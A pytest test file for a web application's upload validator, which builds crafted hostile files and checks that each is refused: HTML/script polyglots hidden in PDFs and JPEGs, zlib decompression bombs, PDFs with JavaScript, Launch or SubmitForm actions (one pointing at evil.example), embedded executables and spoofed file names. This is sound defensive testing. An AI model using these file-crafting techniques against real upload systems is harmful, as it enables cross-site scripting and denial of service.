"""Uploads are what they claim to be: real crafted files — polyglots, bombs, scripts — are refused by
``check_upload`` and through the upload route, leaving nothing stored."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from cases_support import AGENT, draft, snapshot, upload
from fastapi.testclient import TestClient
from PIL import Image
from pypdf import PdfWriter
from sqlalchemy.orm import Session

from onething.demo.cases import png
from onething.kit.errors import ValidationFailed
from onething.kit.filecheck import Limits
from onething.kit.files import check_upload

MB = 1024 * 1024
LIMITS = Limits()


def pdf(*extra: bytes, catalog_extra: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; ``extra`` objects are numbered from 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
        stream(b"BT /F1 12 Tf 10 10 Td (scan) Tj ET"),
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


def refusal(data: bytes, limits: Limits = LIMITS, name: str = "scan.pdf") -> ValidationFailed:
    with pytest.raises(ValidationFailed) as err:
        check_upload(data, name, 20 * MB, limits)
    assert err.value.field == "file"
    assert err.value.status == 422
    return err.value


def jpeg(size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(out, "JPEG")
    return out.getvalue()


# --- what passes ---


def test_real_files_pass() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    made = io.BytesIO()
    writer.write(made)
    assert check_upload(made.getvalue(), "a.pdf", 20 * MB, LIMITS) == "application/pdf"
    assert check_upload(pdf(), "b.pdf", 20 * MB, LIMITS) == "application/pdf"
    flate = zlib.compress(b"q 1 0 0 1 0 0 cm Q\n" * 1000)
    assert check_upload(pdf(stream(flate, b"/Filter /FlateDecode ")), "c.pdf", 20 * MB, LIMITS) == "application/pdf"
    assert check_upload(jpeg(), "photo.jpg", 20 * MB, LIMITS) == "image/jpeg"
    assert check_upload(png(3), "scan.png", 20 * MB, LIMITS) == "image/png"


# --- PDFs ---


def test_a_pdf_html_polyglot_is_refused() -> None:
    polyglot = pdf() + b"<html><body><script>alert(document.cookie)</script></body></html>\n"
    assert refusal(polyglot).code == "file_html"
    early = b"%PDF-1.7\n<!DOCTYPE html><script>x()</script>\n" + pdf()[9:]
    assert refusal(early).code == "file_html"


def test_html_inside_a_compressed_stream_is_not_a_marker() -> None:
    # A content stream may draw the text "<html>": past the first KB (what a browser sniffs) and inside
    # a stream, it is not a page.
    inside = pdf(stream(b"q Q\n" * 300), stream(b"BT (<html><script>) Tj ET"))
    assert inside.index(b"<html") > 1024
    assert check_upload(inside, "a.pdf", 20 * MB, LIMITS) == "application/pdf"


def test_a_pdf_that_inflates_past_the_cap_is_refused() -> None:
    # 8 MiB of zeros deflate to about 8 KiB; with a 4 MiB cap that is a bomb (2 GiB in production).
    bomb = zlib.compress(b"\0" * (8 * MB), 9)
    data = pdf(stream(bomb, b"/Filter /FlateDecode "))
    assert len(data) < 20 * 1024
    small = Limits(inflate_max_bytes=4 * MB)
    assert refusal(data, small).code == "file_too_large_inflated"
    # The same file under a cap it fits is fine: the refusal is the size, not the zeros.
    assert check_upload(data, "a.pdf", 20 * MB, Limits(inflate_max_bytes=9 * MB)) == "application/pdf"


def test_the_budget_counts_every_stream_together() -> None:
    part = zlib.compress(b"\0" * (3 * MB), 9)
    data = pdf(*(stream(part, b"/Filter /FlateDecode ") for _ in range(3)))
    assert refusal(data, Limits(inflate_max_bytes=8 * MB)).code == "file_too_large_inflated"


def test_a_bomb_behind_ascii85_is_measured_too() -> None:
    import base64

    encoded = base64.a85encode(zlib.compress(b"\0" * (8 * MB), 9)) + b"~>"
    data = pdf(stream(encoded, b"/Filter [/ASCII85Decode /FlateDecode] "))
    assert refusal(data, Limits(inflate_max_bytes=4 * MB)).code == "file_too_large_inflated"


@pytest.mark.parametrize(
    "active",
    [
        b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /Type /Action /S /Launch /F (calc.exe) >>",
        b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> /Type /EmbeddedFile >>",
        b"<< /S /SubmitForm /F (http://evil.example/) >>",
    ],
)
def test_a_pdf_with_active_content_is_refused(active: bytes) -> None:
    assert refusal(pdf(active)).code == "file_active_content"


def test_an_open_action_on_the_catalog_is_refused() -> None:
    data = pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog_extra=b"/OpenAction 5 0 R ")
    assert refusal(data).code == "file_active_content"


def test_javascript_under_an_escaped_name_is_found() -> None:
    # "/J#61vaScript" is "/JavaScript" to a reader; a byte scan would not see it, the parsed objects do.
    data = pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
    assert b"/JavaScript" not in data
    assert refusal(data).code == "file_active_content"


def test_a_broken_or_encrypted_or_odd_pdf_is_refused() -> None:
    assert refusal(b"%PDF-1.7\nthis is not a pdf at all").code == "file_broken"
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret")
    made = io.BytesIO()
    writer.write(made)
    assert refusal(made.getvalue()).code == "file_encrypted"
    assert refusal(pdf(stream(b"xx", b"/Filter /LZWDecode "))).code == "file_filter"


def test_too_many_pages_is_refused() -> None:
    writer = PdfWriter()
    for _ in range(4):
        writer.add_blank_page(100, 100)
    made = io.BytesIO()
    writer.write(made)
    assert refusal(made.getvalue(), Limits(max_pages=3)).code == "file_too_many_pages"


def test_an_image_in_a_pdf_with_huge_dimensions_is_refused() -> None:
    image = stream(b"\xff\xd8\xff", b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /Filter /DCTDecode ")
    assert refusal(pdf(image)).code == "file_too_many_pixels"


# --- images ---


def _png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def test_an_image_bomb_header_is_refused() -> None:
    assert refusal(_png_header(100_000, 100_000), name="a.png").code == "file_too_many_pixels"
    big = jpeg((400, 300))
    assert refusal(big, Limits(max_pixels=100_000), name="a.jpg").code == "file_too_many_pixels"


def test_a_broken_image_is_refused() -> None:
    assert refusal(png(1)[:40], name="a.png").code == "file_broken"
    assert refusal(b"\xff\xd8\xff\xe0" + b"\0" * 100, name="a.jpg").code == "file_broken"


def test_an_image_html_polyglot_is_refused() -> None:
    data = jpeg()
    # A JPEG comment segment holding a page: decodes as an image, sniffs as HTML in an old browser.
    comment = b"<html><script>alert(1)</script></html>"
    polyglot = data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]
    assert refusal(polyglot, name="a.jpg").code == "file_html"


def test_a_file_name_with_controls_is_refused() -> None:
    for name in ("invoice\u202efdp.exe", "a\x00.pdf", "zero\u200bwidth.pdf"):
        assert refusal(pdf(), name=name).code == "file_name"


# --- through the upload route ---


def test_the_upload_route_refuses_a_bomb_and_stores_nothing(
    client: TestClient, login: Any, db: Session, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from onething.kit import settings as settings_module

    monkeypatch.setenv("ONETHING_UPLOAD_INFLATE_MAX_BYTES", str(4 * MB))
    settings_module.get_settings.cache_clear()
    try:
        agent = login(AGENT)
        number = draft(client, agent)["number"]
        before = snapshot(db)
        bomb = pdf(stream(zlib.compress(b"\0" * (8 * MB), 9), b"/Filter /FlateDecode "))
        response = upload(client, agent, number, "lease_contract", bomb)
        assert response.status_code == 422, response.text
        assert response.json()["error"]["code"] == "file_too_large_inflated"
        assert response.json()["error"]["field"] == "file"
        js = pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")
        response = upload(client, agent, number, "lease_contract", js)
        assert response.status_code == 422 and response.json()["error"]["code"] == "file_active_content"
        assert snapshot(db) == before
        assert upload(client, agent, number, "lease_contract", pdf()).status_code == 201
    finally:
        settings_module.get_settings.cache_clear()
